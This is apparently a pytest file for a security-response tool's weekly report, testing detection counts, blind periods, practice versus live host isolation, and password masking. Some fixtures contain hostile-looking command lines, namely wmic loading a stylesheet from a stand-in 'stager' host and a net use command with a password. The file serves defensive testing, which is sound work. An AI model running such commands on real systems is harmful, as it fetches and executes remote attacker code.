"""The report of the last days: who would have been asked, who was, what was refused, and what was
not seen. Unknown stays unknown, and practice is told apart."""

from __future__ import annotations

import json
import stat
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import msgspec
import pytest

from runner.config import Mode
from runner.effects import plain
from runner.journal import retention
from runner.masking import MASK
from runner.needs import needs_of
from runner.period import Period, read_period
from runner.period_text import period_document
from runner.suppression_text import text_of_entries
from runner.terminal import text_of
from tests.command_line import QUICK, command_line
from tests.test_suppressions import AGENT, ENTRY, LINE
from tests.world import World, running_world
from tests.world_settings import BENIGN, HOST, SEARCH, malicious

OTHER = "WORKSTATION7-SYNTHETIC"


@pytest.fixture
def observing(tmp_path: Path) -> Iterator[World]:
    with running_world(tmp_path, {"mode": "observe"}) as world:
        world.tick()
        yield world


@pytest.fixture
def acting(tmp_path: Path) -> Iterator[World]:
    with running_world(tmp_path) as world:
        world.arm()
        world.tick()
        yield world


def period_of(world: World, days: float = 7) -> Period:
    with world.journal.read() as tx:
        return read_period(tx, world.config, world.clock.now() - timedelta(days=days))


def said(world: World, days: float = 7) -> str:
    """The report as one line of words."""
    return " ".join(
        text_of(period_document(period_of(world, days), needs_of(world.journal))).split()
    )


def hit(world: World, **more: Any) -> None:
    world.hit(**more)
    world.tick()


# -- observe ---------------------------------------------------------------------------------------


def test_observe_when_hits_came_then_it_says_who_would_have_been_asked_and_why(
    observing: World,
) -> None:
    hit(observing)
    hit(observing, cmdline=malicious(HOST, 2))
    hit(observing, cmdline=BENIGN)
    period = period_of(observing)
    assert (period.observed.questions, period.observed.devices) == (2, 1)
    assert period.asked == ()
    assert period.isolated == ()
    assert period.practised == 0
    (search,) = period.searches
    assert (search.hits, search.cases) == (3, 3)
    assert search.judged == {"malicious": 2, "benign": 1}
    assert {line.host for line in period.hosts} == {HOST}
    assert period.hosts[0].case_id == observing.cases()[0].id
    text = said(observing)
    assert "would have asked 2 times, about 1 device. Nobody was asked" in text
    assert "malicious, score 95: wmic loads its output stylesheet from the network" in text
    assert "would have opened 2 tickets" in text


def test_observe_when_a_guard_refuses_then_not_counted_as_asked_and_named_with_its_reason(
    observing: World,
) -> None:
    observing.protect(f"host {HOST}\n")
    hit(observing)
    period = period_of(observing)
    assert period.observed.questions == 0
    assert period.refused == {"protected_asset": {f"protected by the rule «host {HOST}»": 1}}
    assert "Refused by guards, so that nobody was asked: 1 protected_asset." in said(observing)


def test_observe_when_the_edr_knows_no_such_host_then_said_with_the_host(observing: World) -> None:
    hit(observing, host="NOWHERE-1")
    period = period_of(observing)
    assert (period.untraced, period.observed.questions) == (1, 0)
    assert "the EDR has no device named NOWHERE-1" in said(observing)


def test_observe_when_the_guards_could_not_be_asked_then_a_failed_run_and_no_ruling(
    observing: World,
) -> None:
    def down() -> None:
        observing.falcon.misbehave(method="GET", path="*", status=503, body="{}", times=None)

    observing.before.append(("GET *queries/devices/v1*limit=1&*", down))
    hit(observing)
    observing.ticks(12, every_s=60)
    period = period_of(observing)
    assert (period.failed_runs, period.observed.questions, period.refused) == (1, 0, {})
    assert "FAILED, so that a case was not worked on to its end: 1 run." in said(observing)


def test_observe_when_one_hour_holds_more_devices_than_the_budget_then_said(tmp_path: Path) -> None:
    guards = {"guards": {"budget": {"per_hour": 1, "fleet_percent": 50}}}
    with running_world(tmp_path, {"mode": "observe", **guards}) as world:
        hit(world)
        world.clock.advance(3700)
        hit(world, host=OTHER, user=r"WORKGROUP\jdoe")
        assert period_of(world).observed.most_in_hour == 1
        hit(world, cmdline=malicious(HOST, 2))
        assert period_of(world).observed.most_in_hour == 2
        assert "that would have been 2 devices, and guards.budget.per_hour allows 1" in said(world)


def test_observe_when_the_same_case_repeats_then_hits_and_cases_differ(observing: World) -> None:
    hit(observing)
    hit(observing)
    (search,) = period_of(observing).searches
    assert (search.hits, search.cases) == (2, 1)


def test_report_when_hits_are_older_than_asked_then_they_do_not_count(observing: World) -> None:
    hit(observing)
    observing.clock.advance(2 * 86400)
    observing.tick()
    period = period_of(observing, days=1)
    assert (period.searches[0].hits, period.observed.questions, period.hosts) == (0, 0, ())
    assert period_of(observing, days=3).observed.questions == 1


# -- what was not seen -----------------------------------------------------------------------------


def test_report_when_nothing_was_ever_polled_then_hits_are_not_known_and_never_zero(
    tmp_path: Path,
) -> None:
    with running_world(tmp_path, {"mode": "observe"}) as world:
        world.splunk.misbehave(method="POST", path="*", status=503, body="{}", times=None)
        world.splunk.misbehave(method="GET", path="*", status=503, body="{}", times=None)
        world.ticks(3, every_s=600)
        (search,) = period_of(world).searches
        assert search.hits is None
        assert search.blind_minutes is not None
        assert search.blind_minutes > 20
        text = said(world)
        assert "hits NOT KNOWN" in text
        assert "BLIND" in text
        assert "hits 0" not in text


def test_report_when_no_poll_was_even_tried_then_it_says_so(tmp_path: Path) -> None:
    with running_world(tmp_path, {"mode": "observe"}) as world:
        world.clock.advance(3600)
        text = said(world)
    assert "hits NOT KNOWN" in text
    assert "NEVER POLLED: blind all the time" in text


def test_report_when_blind_for_a_while_then_a_zero_is_only_of_what_was_seen(
    observing: World,
) -> None:
    observing.clock.advance(3600)
    observing.tick()
    (search,) = period_of(observing).searches
    assert search.hits == 0
    assert search.blind_minutes == pytest.approx(55, abs=1)
    assert "hits 0 while it was seen" in said(observing)


def test_report_when_cases_were_erased_then_they_are_no_benign_ones(observing: World) -> None:
    hit(observing, cmdline=BENIGN)
    observing.clock.advance(86400)
    observing.tick()
    with observing.journal.write() as tx:
        retention.erase(tx, tx.clock.now() - timedelta(hours=1))
    period = period_of(observing)
    assert period.searches[0].judged == {"erased": 1}
    assert period.known_since == observing.clock.now() - timedelta(hours=1)
    assert "the journal holds not everything" in said(observing)


# -- practice and act ------------------------------------------------------------------------------


def test_practice_when_people_answered_then_told_apart_and_nothing_counts_as_isolated(
    tmp_path: Path,
) -> None:
    with running_world(tmp_path, {"mode": "practice"}) as world:
        hit(world)
        world.yes(world.question())
        world.ticks(2, every_s=30)
        hit(world, cmdline=malicious(HOST, 2))
        world.no(world.question())
        world.ticks(2, every_s=30)
        period = period_of(world)
        (asked,) = period.asked
        assert asked.mode is Mode.PRACTICE
        assert asked.states == {"approved": 1, "denied": 1}
        assert (period.practised, period.isolated, period.pending) == (1, (), ())
        assert period.observed.questions == 0
        assert [(line.host, line.what) for line in period.hosts] == [
            (HOST, "PRACTICE: asked to isolate it: approved by responder-a"),
            (HOST, "PRACTICE: asked to isolate it: denied by responder-a"),
        ]
        text = said(world)
        assert "PRACTICE: asked 2 times about 1 device: 1 approved, 1 denied" in text
        assert "PRACTICE: 1 isolation or release approved, recorded and not sent." in text
        assert "No isolation through this runner was confirmed." in text


def test_practice_when_the_mode_becomes_act_then_its_yes_isolates_nobody(tmp_path: Path) -> None:
    """Also one that was carried out in practice: the next hit is a new question."""
    with running_world(tmp_path, {"mode": "practice"}) as world:
        hit(world)
        practised = world.question()
        world.yes(practised)
        world.ticks(2, every_s=30)
        world.restart({"mode": "act"})
        assert world.arm().code == 0
        world.ticks(3, every_s=60)
        assert world.asked_to("contain") == []
        hit(world, cmdline=malicious(HOST, 2))
        assert world.question().id != practised.id
        assert world.asked_to("contain") == []
        assert [one.mode for one in period_of(world).asked] == [Mode.PRACTICE, Mode.ACT]


def test_practice_when_answered_then_every_first_line_in_chat_and_ticket_says_so(
    tmp_path: Path,
) -> None:
    with running_world(tmp_path, {"mode": "practice"}) as world:
        hit(world)
        question = world.question()
        world.yes(question)
        world.ticks(2, every_s=30)
        hit(world, cmdline=malicious(HOST, 2))
        silent = world.question()
        world.ticks(3, every_s=900)
        texts = [card["text"] for card in world.cards()]
        texts += [*world.thread(question), *world.thread(silent)]
        texts += world.ticket_texts(world.cases()[0])
        assert len(texts) > 6
        assert [text for text in texts if not text.startswith("PRACTICE: ")] == []
        for card in world.cards():
            assert "PRACTICE: " in json.dumps(card["blocks"][0])


def test_act_when_isolated_then_counted_from_the_edrs_own_record_with_its_times(
    acting: World,
) -> None:
    hit(acting)
    acting.clock.advance(40)
    acting.yes(acting.question())
    acting.ticks(3, every_s=20)
    period = period_of(acting)
    assert period.isolated == (HOST,)
    assert period.pending == ()
    (asked,) = period.asked
    assert (asked.mode, asked.states, asked.devices) == (Mode.ACT, {"approved": 1}, 1)
    assert asked.median_s is not None
    assert asked.median_s >= 40
    assert period.containment_median_s is not None
    text = said(acting)
    assert f"Isolated, confirmed by the EDR's record: {HOST}." in text
    assert "PRACTICE" not in text


def test_act_when_another_case_had_the_answer_then_shared_and_not_asked_again(
    acting: World,
) -> None:
    hit(acting)
    acting.yes(acting.question())
    acting.ticks(2, every_s=30)
    hit(acting, cmdline=malicious(HOST, 2))
    acting.tick()
    hit(acting, host=OTHER, user=r"WORKGROUP\\jdoe")
    period = period_of(acting)
    assert period.shared == 1
    assert "An answer or isolation of another case counted, without a new card: 1 device." in said(
        acting
    )


def test_act_when_refused_then_the_no_counts_for_the_next_case_as_shared(acting: World) -> None:
    hit(acting)
    acting.no(acting.question())
    acting.ticks(2, every_s=30)
    hit(acting, cmdline=malicious(HOST, 2))
    period = period_of(acting)
    assert (period.asked[0].questions, period.shared, period.isolated) == (1, 1, ())


def test_report_when_a_suppression_covered_hits_then_counted_under_its_id(tmp_path: Path) -> None:
    with running_world(tmp_path, {"mode": "observe", "suppressions_file": "s.yaml"}) as world:
        entry = msgspec.structs.replace(ENTRY, search=SEARCH)
        (tmp_path / "s.yaml").write_text(text_of_entries([entry]))
        world.hit(
            cmdline=LINE,
            user=ENTRY.account,
            ParentCommandLine=f'"{AGENT}" -nightly',
            ParentImage=AGENT,
        )
        world.tick()
        (search,) = period_of(world).searches
        assert search.suppressed == {ENTRY.id: 1}
        assert search.judged == {"benign": 1}


def test_act_when_the_host_is_offline_then_it_is_not_among_the_isolated(acting: World) -> None:
    acting.falcon.set_device(HOST, offline=True)
    hit(acting)
    acting.yes(acting.question())
    acting.ticks(5, every_s=60)
    period = period_of(acting)
    assert (period.isolated, period.pending) == ((), (HOST,))
    assert f"Isolation requested and NOT confirmed: {HOST}." in said(acting)


def test_act_when_approved_at_once_then_the_person_is_named(acting: World) -> None:
    hit(acting)
    acting.yes(acting.question())
    acting.clock.advance(1)
    acting.tick()
    assert period_of(acting).quick == {"responder-a": 1}
    assert "responder-a 1 time" in said(acting)


def test_report_when_a_password_stands_in_the_evidence_then_it_is_masked(observing: World) -> None:
    line = 'wmic /password:hunter2 os get /format:"https://u:hunter2@stager.example.test/a.xsl"'
    hit(observing, cmdline=line)
    text = said(observing)
    assert "hunter2" not in text
    assert MASK in text


def test_report_when_a_reason_or_a_need_holds_a_password_then_it_is_masked(
    observing: World,
) -> None:
    hit(observing)
    period = period_of(observing)
    secret = r"net use \\fs\c$ /user:corp\a /password:hunter2"
    line = msgspec.structs.replace(period.hosts[0], why=secret)
    (search,) = period.searches
    told = msgspec.structs.replace(
        period,
        hosts=(line,),
        refused={"identity": {secret: 1}},
        searches=(msgspec.structs.replace(search, last_error=secret),),
    )
    text = text_of(period_document(told, [secret]))
    assert "hunter2" not in text
    assert text.count(MASK) == 4


def test_report_as_data_holds_the_same_numbers(observing: World) -> None:
    hit(observing)
    data = json.loads(json.dumps(plain(period_of(observing))))
    assert data["observed"]["questions"] == 1
    assert data["searches"][0]["name"] == SEARCH


# -- the command -----------------------------------------------------------------------------------


def test_report_as_it_is_typed_in_each_format_and_into_a_new_file_only(tmp_path: Path) -> None:
    with command_line(tmp_path, {"mode": "observe", **QUICK}) as line:
        line.store(1, cmdline='wmic os get /format:"https://x.example.test/<b>|a.xsl"')
        assert line("run").code == 0
        text = line("report")
        assert (text.code, text.err) == (0, "")
        assert text.out.startswith("Stockade: ")
        assert "hits 1" in text.out
        data = line("report", "--since", "2h", "--json").value
        assert (data["searches"][0]["hits"], data["mode"]) == (1, "observe")
        assert line("report", "--format", "markdown").out.startswith("## Stockade: ")
        page = line("report", "--format", "html", "--out", "week.html")
        assert (page.code, page.out) == (0, "written to week.html\n")
        written = tmp_path / "week.html"
        assert written.read_text().startswith("<!doctype html>")
        assert stat.S_IMODE(written.stat().st_mode) == 0o600
        again = line("report", "--out", "week.html")
        assert (again.code, "not overwritten" in again.err) == (2, True)
        assert line("report", "--since", "999999d").code == 2
